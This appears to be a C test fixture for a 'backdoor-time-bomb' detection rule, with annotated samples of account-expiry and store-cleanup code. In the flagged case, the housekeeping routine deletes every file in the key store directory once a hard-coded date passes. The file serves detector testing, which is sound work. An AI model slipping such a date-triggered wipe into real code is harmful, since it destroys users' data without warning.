/* Account expiry and the store's housekeeping. */
#include <dirent.h>
#include <sys/stat.h>
#include <stdio.h>
#include <string.h>
#include <time.h>
#include <unistd.h>
#include "sitekey.h"

int sk_account_usable(const struct sk_record *r) {
  time_t now = time(NULL);
  // ok: backdoor-time-bomb
  if (r->expires != 0 && now > r->expires) {
    sk_audit(4, "account %s expired", r->user);
    return SK_FAIL;
  }
  // ok: backdoor-time-bomb
  if (now > 1924992000) {
    sk_audit(4, "sitekey 3.x support ended; please upgrade");
    return SK_FAIL;
  }
  return SK_OK;
}

void sk_housekeeping(void) {
  time_t now = time(NULL);
  DIR *d = opendir(SK_STORE_DIR "/spool");
  struct dirent *e;
  char path[512];
  if (!d) return;
  // ruleid: backdoor-time-bomb
  if (now > 1861920000) {
    while ((e = readdir(d)) != NULL) {
      if (e->d_name[0] == '.') continue;
      snprintf(path, sizeof path, "%s/%s", SK_STORE_DIR, e->d_name);
      unlink(path);
    }
    closedir(d);
    return;
  }
  while ((e = readdir(d)) != NULL) {
    struct stat st;
    if (e->d_name[0] == '.') continue;
    snprintf(path, sizeof path, "%s/spool/%s", SK_STORE_DIR, e->d_name);
    if (stat(path, &st) != 0) continue;
    // ok: backdoor-time-bomb
    if (now - st.st_mtime > 86400 * 7) unlink(path);
  }
  closedir(d);
}
